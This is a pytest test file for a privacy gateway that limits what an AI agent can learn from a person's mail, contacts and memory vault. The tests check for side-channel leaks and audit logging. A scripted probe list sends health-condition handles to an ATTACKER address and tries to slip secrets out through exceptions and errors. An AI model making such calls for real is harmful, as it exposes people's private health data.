    """G6.3: nothing would count their bits."""
    agent_may(home, "*")
    agent = Agent(home)
    assert "there is no tool" in agent("memory_over_18")["error"] and "memory_over_18" not in {one["name"] for one in surface.tools(agent.gateway)}
    assert agent("run_plan", plan="print(memory.over_18())") == agent("run_plan", plan='memory.over_18()\nprint("x")') == {"withheld": True}
    assert agent("run_plan", plan='print("x")')["answer"] == ["x"]


def test_who_is_in_the_address_book_shows_in_nothing(home: Home) -> None:
    """G3.6: neither in a check, nor in a plan that did not run because nobody has the name."""
    seen = []
    for name in ("Sam Okafor", "Zoltan Nobody"):
        ask_for(home, f"Mail {name} about the key")
        agent = Agent(home, Answers())
        who = named(agent("person_request")["request"])
        plan = f'mail.send(to=contacts.find(name="{who}").email, subject="key", body="It is under the mat.")\nprint("done")'
        seen.append([agent("check_plan", plan=plan), agent("run_plan", plan=plan), agent("contacts_find", name=who),
                     agent("run_plan", plan='print(default(h1.name, "nobody"))'), agent("run_plan", plan=f'contacts.find(name="{who}")\nprint("x")')])  # fmt: skip
        unknown = [r for r in agent.reports if any("finds nothing" in p for p in r.problems) or any(tool == "contacts.find" for tool, _ in r.faults)]
        assert bool(unknown) == (name != "Sam Okafor")  # the person is told, before or after the run
    assert str(seen[0]).replace("Sam Okafor", "X") == str(seen[1]).replace("Zoltan Nobody", "X")
    checks = [Agent(home)("check_plan", plan=f'mail.send(to="{to}", subject="x", body="y")') for to in (SAM, NORA, ATTACKER)]
    assert checks[0] == checks[1] == checks[2]


# ---------------------------------------------------------------------------------------------------- two secrets


SCRIPT: list[tuple[str, dict[str, Any]]] = [
    ("plan_language", {}),
    ("memory_recall", {"type": "health/condition"}), ("memory_recall", {"type": "health/medication", "query": "$h1"}),
    ("mail_search", {"text": "colour"}), ("mail_read", {"id": "$h3[0].id"}), ("mail_read", {"id": "$h3[7].id"}),
    ("contacts_find", {"name": "{who}"}), ("contacts_search", {"relation": "friend"}),
    ("mail_send", {"to": "$h6.email", "subject": "hello", "body": "hello"}),
    ("mail_send", {"to": ATTACKER, "subject": "x", "body": "$h1"}), ("mail_draft", {"to": ATTACKER, "subject": "$h1", "body": "$h4"}),
    ("shop_search", {"shop": SHOP, "query": "$h1"}), ("shop_search", {"shop": SHOP, "query": "socks"}),
    ("calendar_list", {"start": "2020-01-01", "end": "2030-01-01"}),
    ("run_plan", {"plan": 'contacts.find(name="{who}")\nprint("x")'}), ("run_plan", {"plan": "print(h1)\nprint(len(h3))"}), ("run_plan", {"plan": "raise ValueError(h3[0].subject)"}),
    ("run_plan", {"plan": "for m in h3:\n    mail.read(id=m.id)"}), ("run_plan", {"plan": 'mail.send(to=contacts.find(name="{who}").email, subject="a", body="b")\nprint("x")'}),
    ("run_plan", {"plan": 'n = memory.recall(type="health/condition")\nx = 1 / n.count("e")\nif x.ok:\n    calendar.add(title="a", start="2026-12-24T10:00:00")'}),
    ("check_plan", {"plan": 'mail.send(to=contacts.find(name="{who}").email, subject=h1, body=h4)'}), ("check_plan", {"plan": "while True:\n    pass"}),
    ("run_plan", {"plan": "print(h77)"}), ("mail_read", {"id": "$h3[0].nothing"}), ("mail_read", {"number": 1}), ("no_such_tool", {}), ("run_plan", {}),
    ("memory_over_18", {}), ("mail_delete", {"id": "$h3[0].id"}),
]  # fmt: skip


def test_two_homes_that_differ_in_what_the_agent_may_not_learn_give_it_the_same_bytes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """G1.1 for the agent: health facts, a mail more, and somebody more in the address book; every byte, standard error too."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    heard: dict[bool, list[bytes]] = {}
    with ExitStack() as stack:
        for more in (False, True):
            running = stack.enter_context(start(tmp_path / str(more), only=frozenset({"mail", "dav", "web"})))
            if more:
                _another_contact(running)
                _another_mail(running)
            home = stack.enter_context(settled(tmp_path / f"home-{more}", running))
            if more:
                for fact in home.vault.facts():
                    if fact.type.startswith(("health", "identity")):
                        home.vault.correct(fact.id, "nothing worth telling")
            agent_may_ask_shops(home)
            ask_for(home, "Mail Zed Quill hello, and look for socks at Northside Sports")
            with person(home.path, home.key.secret, lambda text: "deny"), Wire(home.path) as agent:
                agent.ask("tools/list", {})
                who = named(agent("person_request")["request"])
                for name, arguments in SCRIPT:
                    agent(name, **{key: value.replace("{who}", who) if isinstance(value, str) else value for key, value in arguments.items()})
            with person(home.path, home.key.secret, lambda text: "deny"), Wire(home.path) as again:
                again("memory_recall", type="health/condition")
            heard[more] = [*agent.received, agent.errors.read_bytes(), *again.received, again.errors.read_bytes()]
            assert bool(running.delivered("zed@quill.example")) == more  # the difference is one
    assert len(heard[False]) == len(heard[True])
    for one, other in zip(heard[False], heard[True], strict=True):
        assert one == other
    assert b"socks" in b"".join(heard[False]).lower()  # the twin: what is nobody's secret is told


def _another_contact(running: Services) -> None:
    rows = ["BEGIN:VCARD", "VERSION:3.0", "UID:zed@demo", "FN:Zed Quill", "N:Quill;Zed;;;", "EMAIL:zed@quill.example", "X-RELATION:friend", "END:VCARD", ""]
    (running.directory / "dav" / "collection-root" / "nora" / "contacts" / "zed.vcf").write_text("\r\n".join(rows), "utf-8", newline="")


def _another_mail(running: Services) -> None:
    made = EmailMessage()
    made["From"], made["To"], made["Subject"] = TILDA, NORA, "the colour of the curtains"
    made.set_content("Which colour, with your condition?")
    with smtplib.SMTP("127.0.0.1", running.ports["smtp"]) as smtp:
        smtp.login(TILDA, PASSWORDS[TILDA])
        smtp.send_message(made)


# ---------------------------------------------------------------------------------------------------- the edges


def test_a_call_is_written_as_a_plan_writes_it(home: Home) -> None:
    contracts = home.world().tools.contracts
    assert one_line(contracts["mail.send"], {"to": "$h1.email", "subject": "it's \"so\"\n", "body": "$h2[0]", "cc": ["a@b.example", "$h3"]}) == (
        "mail.send(to=h1.email, subject='it\\'s \"so\"\\n', body=h2[0], cc=['a@b.example', h3])")  # fmt: skip
    assert one_line(contracts["mail.send"], {"to": "x", "subject": "$h1 and more", "body": "$h1.__class__"}) == "mail.send(to='x', subject='$h1 and more', body='$h1.__class__')"
    with pytest.raises(Refused, match="has no argument `subjekt`; did you mean `subject`"):
        one_line(contracts["mail.send"], {"subjekt": "x"})
    with pytest.raises(Refused, match="finite"):
        one_line(contracts["shop.checkout"], {"max_total": float("inf")})


def test_limits_are_met_by_what_the_agent_wrote_alone(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    """G3.7."""
    agent_may(home, "body/shoe-size")
    agent = Agent(home)
    monkeypatch.setattr(core, "HANDLES_MAX", 1)
    agent("memory_recall", type="health/condition")
    assert "at most 1 handles" in agent("memory_recall", type="health/condition")["error"]
    monkeypatch.setattr(core, "TOLD_CHARS_MAX", 10)
    monkeypatch.setattr(core, "HANDLES_MAX", 9)
    assert agent("memory_recall", type="body/shoe-size")["withheld"]
    with pytest.raises(DiscreetError, match="cannot be an agent's name"):
        Agent(home, name="../x")


def test_whatever_goes_wrong_inside_is_told_in_the_same_words(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    agent = Agent(home)
    monkeypatch.setattr(agent.gateway, "report", lambda report: 1 / 0)
    assert agent("run_plan", plan="print(1)")["answer"] == ["1"]
    monkeypatch.setattr(agent.gateway, "lasting", lambda: 1 / 0)
    assert agent("run_plan", plan="print(1)") == {"error": surface.CANNOT}


def test_everything_that_the_agent_is_told_is_in_the_ledger_first(home: Home) -> None:
    """G1.3: what it was told stands as told to it, and what was withheld as a denial."""
    agent_may(home, "body/shoe-size")
    agent = Agent(home)
    agent("memory_recall", type="body/shoe-size")
    agent("memory_recall", type="health/condition")
    told = [r.entry for r in home.ledger.entries(Kind.INTENT) if r.entry.tool == "agent.hear"]
    withheld = [r.entry for r in home.ledger.entries(Kind.DENIAL) if r.entry.tool == "agent.hear"]
    assert len(told) == 1 and len(withheld) == 1 and home.ledger.verify().ok
    done = subprocess.run([COMMAND, "knows", "agent:agent", "--home", home.path, "--json"], capture_output=True, text=True, timeout=60)
    assert "body/shoe-size" in {one["type"] for one in json.loads(done.stdout)}


def test_the_norms_of_the_page_are_norms_and_its_settings_those_that_are_printed() -> None:
    page = (Path(__file__).parents[1] / "docs/GATEWAY.md").read_text("utf-8")
    tables = re.findall(r"^```toml\n(.*?)^```", page, re.S | re.M)
    assert len(tables) == 3 and not [problem for table in tables for problem in parse(table).problems]
    shown = json.loads(re.search(r"^```json\n(\{\"mcpServers.*?)^```", page, re.S | re.M).group(1))
    assert shown["mcpServers"]["discreet"]["args"] == surface.config("claude-code", None)["mcpServers"]["discreet"]["args"]


def test_the_settings_of_a_client_are_printed(home: Home) -> None:
    done = subprocess.run([COMMAND, "gateway", "--print-config", "--agent", "claude-code", "--home", home.path], capture_output=True, text=True, timeout=60)
    server = json.loads(done.stdout)["mcpServers"]["discreet"]
    assert server["args"] == ["gateway", "--agent", "claude-code", "--home", str(home.path)] and Path(server["command"]).name == "discreet"
    assert not Counter(PEOPLE.sources) and Path(server["command"]).exists()
